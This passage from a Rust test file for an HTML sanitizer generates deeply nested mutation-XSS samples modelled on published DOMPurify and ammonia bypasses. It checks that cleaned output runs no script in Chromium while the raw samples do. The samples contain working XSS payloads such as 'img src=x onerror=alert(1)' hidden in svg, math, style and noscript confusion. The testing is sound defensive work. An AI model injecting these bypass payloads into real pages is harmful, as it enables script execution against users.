        ],
    },
];

/// Returns samples nested so deep that some parsers flatten them (DOMPurify before 3.1.3, CVE-2024-47875) or overflow the
/// stack (ammonia RUSTSEC-2019-0001).
fn nested() -> Vec<String> {
    let depths = [128, 253, 254, 255, 256, 257, 510, 512, 600, 20_000];
    depths
        .iter()
        .flat_map(|depth| {
            [
                ("<div>", "<svg><style><a title=\"</style><img src=x onerror=alert(1)>\">"),
                ("<b>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">"),
                ("<svg><a>", "</svg></svg><style><img src=x onerror=alert(1)>"),
                ("<form><math>", "</form><mtext><form><mglyph><style></math><img src=x onerror=alert(1)>"),
                ("<table><td>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
            ]
            .map(|(open, inner)| open.repeat(*depth) + inner)
        })
        .collect()
}

const NESTED: &str = "flattened nesting";

/// Returns every sample with its class.
fn samples() -> impl Iterator<Item = (&'static str, String)> {
    let listed = CLASSES.iter().flat_map(|class| class.samples.iter().map(|s| (class.name, (*s).to_owned())));
    listed.chain(nested().into_iter().map(|sample| (NESTED, sample)))
}

fn cleaned(raw: &str) -> String {
    let page = Url::parse("https://news.example/a/b.html?x=1").unwrap();
    clean(RawHtml(raw), &page, &Policy::default()).html.as_str().to_owned()
}

#[test]
fn no_published_bypass_survives_cleaning() {
    for (class, raw) in samples() {
        // Some bypasses need other markup before, around or after them.
        for around in ["%", "<p>a</p>%<p>b</p>", "<div><ul><li>%</ul></div>", "<table><tr><td>%"] {
            let raw = around.replace('%', &raw);
            let out = cleaned(&raw);
            let shown: String = raw.chars().rev().take(400).collect::<Vec<_>>().into_iter().rev().collect();
            assert_eq!(oracle::faults(&out), [""; 0], "{class}: …{shown}\ngave {out}");
            // Deep nesting may be cut in another place the second time.
            assert!(class == NESTED || cleaned(&out) == out, "{class}: …{shown}");
        }
    }
    for class in CLASSES {
        assert_attack_row(class.name, class.how, class.samples.len());
    }
    assert_attack_row(NESTED, "", nested().len());
}

#[test]
#[cfg_attr(not(has_readers), ignore = "needs chromium and node: run tests/run.sh")]
fn chromium_runs_no_cleaned_script_and_fetches_only_media() {
    let clean: BTreeSet<String> =
        samples().map(|(_, raw)| cleaned(&raw)).filter(|out| !out.is_empty()).collect();
    // Uncleaned samples must run, or the test would prove nothing.
    let raw: Vec<_> = samples().step_by(9).map(|(_, raw)| raw).collect();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("samples.json");
    std::fs::write(&input, json!({ "raw": raw, "clean": clean }).to_string()).unwrap();
    let tool = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/tools/attack.cjs");
    let output = Command::new("node")
        .args([&tool, &input])
        .env("NODE_PATH", std::env::var_os("FEEDMILL_NODE_MODULES").unwrap())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let seen: Value = serde_json::from_slice(&output.stdout).unwrap();
    let nothing = Value::Array(vec![]);
    assert_eq!(seen["clean"]["ran"], nothing, "these samples ran a script");
    assert_eq!(seen["clean"]["mutated"], nothing);
    assert_eq!(seen["clean"]["fetched"], nothing);
    // Without cleaning, the same browser does run scripts.
    let ran = seen["raw"]["ran"].as_array().unwrap().len();
    assert!(ran > 9, "only {ran} of {} ran uncleaned", raw.len());
    assert!(!seen["raw"]["fetched"].as_array().unwrap().is_empty());
    println!("{ran} of {} run uncleaned", raw.len());
}
